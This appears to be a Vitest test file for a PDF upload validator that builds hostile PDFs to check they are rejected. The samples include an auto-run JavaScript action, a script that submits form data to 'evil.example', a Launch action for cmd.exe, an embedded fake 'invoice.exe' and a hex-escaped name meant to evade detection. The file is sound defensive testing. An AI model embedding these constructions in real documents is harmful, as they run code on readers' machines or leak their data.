import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
import { describe, expect, it } from 'vitest'
import { validatePdf } from '../../src/images/index.js'
import { expectCode, fixture } from './helpers.js'

async function onePage(): Promise<PDFDocument> {
  const doc = await PDFDocument.create()
  doc.addPage([200, 200]).drawText('ID card', { x: 20, y: 100 })
  return doc
}

async function bytes(doc: PDFDocument): Promise<Buffer> {
  // No object streams, so that the hex-escape test below can edit the file text.
  return Buffer.from(await doc.save({ useObjectStreams: false }))
}

describe('validatePdf', () => {
  it('accepts the real 1-page and 4-page fixtures with page count, bytes and sha256', async () => {
    const one = fixture('docs/pdf-1-page-libreoffice.pdf')
    expect(await validatePdf(one)).toMatchObject({ format: 'pdf', contentType: 'application/pdf', pages: 1, bytes: one.length })
    const four = await validatePdf(fixture('docs/pdf-4-pages-pdflatex.pdf'))
    expect(four.pages).toBe(4)
    expect(four.sha256).toMatch(/^[0-9a-f]{64}$/)
  })

  it('accepts a plain generated PDF (with object streams)', async () => {
    expect(await validatePdf(await bytes(await onePage()))).toMatchObject({ pages: 1 })
    expect(await validatePdf(Buffer.from(await (await onePage()).save({ useObjectStreams: true })))).toMatchObject({ pages: 1 })
  })

  it('refuses the password-protected fixture as INVALID_PDF (reason: encrypted)', async () => {
    const error = await expectCode(validatePdf(fixture('docs/pdf-encrypted-password.pdf')), 'INVALID_PDF')
    expect(error).toMatchObject({ status: 422, details: { reason: 'encrypted' } })
  })

  it('refuses wrong magic, garbage after the header, and a PDF with no pages as INVALID_PDF', async () => {
    await expectCode(validatePdf(fixture('jpeg-grayscale.jpg')), 'INVALID_PDF')
    await expectCode(validatePdf(Buffer.from('%PDF-1.7\nthis is not a pdf at all\n%%EOF')), 'INVALID_PDF')
    await expectCode(validatePdf(Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false }))), 'INVALID_PDF')
    await expectCode(validatePdf(Buffer.alloc(0)), 'EMPTY_FILE')
  })

  it('refuses an /OpenAction that runs JavaScript as UNSAFE_PDF', async () => {
    const doc = await onePage()
    const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') })
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action))
    const error = await expectCode(validatePdf(await bytes(doc)), 'UNSAFE_PDF')
    expect(error).toMatchObject({ status: 422 })
    // The same action hidden inside a compressed object stream.
    await expectCode(validatePdf(Buffer.from(await doc.save({ useObjectStreams: true }))), 'UNSAFE_PDF')
  })

  it('refuses a document-level /JavaScript name tree', async () => {
    const doc = await onePage()
    const script = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("https://evil.example")') }))
    const tree = doc.context.obj({ Names: [PDFString.of('init'), script] })
    doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.register(tree) }))
    await expectCode(validatePdf(await bytes(doc)), 'UNSAFE_PDF')
  })

  it('refuses a Launch action, a page /AA trigger and an embedded file', async () => {
    const launch = await onePage()
    launch.catalog.set(PDFName.of('OpenAction'), launch.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }))
    await expectCode(validatePdf(await bytes(launch)), 'UNSAFE_PDF')

    const aa = await onePage()
    aa.getPage(0).node.set(PDFName.of('AA'), aa.context.obj({ O: aa.context.obj({ S: 'GoTo', D: [0, 'Fit'] }) }))
    await expectCode(validatePdf(await bytes(aa)), 'UNSAFE_PDF')

    const attached = await onePage()
    await attached.attach(Buffer.from('MZ not really an exe'), 'invoice.exe', { mimeType: 'application/octet-stream' })
    await expectCode(validatePdf(await bytes(attached)), 'UNSAFE_PDF')
  })

  it('finds a hex-escaped name (/J#61vaScript) too', async () => {
    const doc = await onePage()
    // Escape the name in the file text; the parser decodes #61 to "a", and so must the check.
    const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('1') })
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action))
    const escaped = Buffer.from((await bytes(doc)).toString('latin1').replace('/JavaScript', '/J#61vaScript'), 'latin1')
    await expectCode(validatePdf(escaped), 'UNSAFE_PDF')
  })
})
